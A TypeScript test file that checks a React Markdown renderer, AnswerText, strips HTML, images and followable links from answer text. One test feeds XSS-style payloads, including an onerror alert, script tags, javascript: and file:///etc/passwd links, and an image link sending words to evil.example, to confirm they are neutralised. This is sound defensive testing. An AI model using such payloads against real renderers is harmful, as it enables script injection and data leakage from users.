import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import "../../../../renderer/text/i18n.ts";
import { AnswerText } from "../../../../renderer/answer/AnswerText.tsx";

const render = (text: string): string => renderToStaticMarkup(<AnswerText text={text} onLink={() => undefined} />);

/** What a person reads: the markup without its tags. */
const textOf = (html: string): string =>
  html
    .replace(/<[^>]*>/g, "")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&amp;", "&");

describe("the text of an answer", () => {
  test("is shown as Markdown", () => {
    expect(render("**bold** and\n\n| a | b |\n| - | - |\n| 1 | 2 |")).toMatch(/<strong>bold<\/strong>[\s\S]*<td>1<\/td>/);
  });

  test("brings no element of its own, no picture and no address that is fetched or followed", () => {
    const html = render(
      '<img src=x onerror=alert(1)><iframe src="https://a.example"></iframe><script>alert(1)</script>\n\n' +
        "![secret](https://evil.example/?q=words) [a](javascript:alert(1)) [b](http://plain.example) [c](file:///etc/passwd) " +
        "[d](https://user:pass@evil.example) <https://auto.example>",
    );
    expect(html).not.toMatch(/<(img|iframe|script|a)\b/i);
    expect(html).not.toMatch(/<[^>]*\s(src|href|onerror)=/i);
    expect(html).not.toMatch(/javascript:|file:|plain\.example|evil\.example/);
    expect(html).toContain("[picture: secret]");
  });

  test.each([
    "Use List<String> here, and <br> too.",
    "if a<b and c>d then x",
    "<!-- hidden -->visible",
    "<answer>42</answer>",
    "<div>",
    "<?php echo 1 ?> and <![CDATA[x]]>",
    "[1]: Smith",
    "[^1]: a note that nothing refers to",
  ])("hides nothing: %s", (source) => {
    expect(textOf(render(source))).toBe(source);
  });

  test("keeps the lines of a block of HTML apart and its Markdown alive", () => {
    const html = render("<answer>\n**42**\n</answer>\n\nAfter.");
    expect(textOf(html)).toBe("<answer>\n42\n</answer>\nAfter.");
    expect(html).toContain("<strong>42</strong>");
  });

  test("makes a link a button that names its whole address", () => {
    expect(render("[manual](https://example.org/a?b=1)")).toMatch(
      /<button type="button" class="link-button" title="Open https:\/\/example\.org\/a\?b=1 in your browser">manual<\/button>/,
    );
  });
});
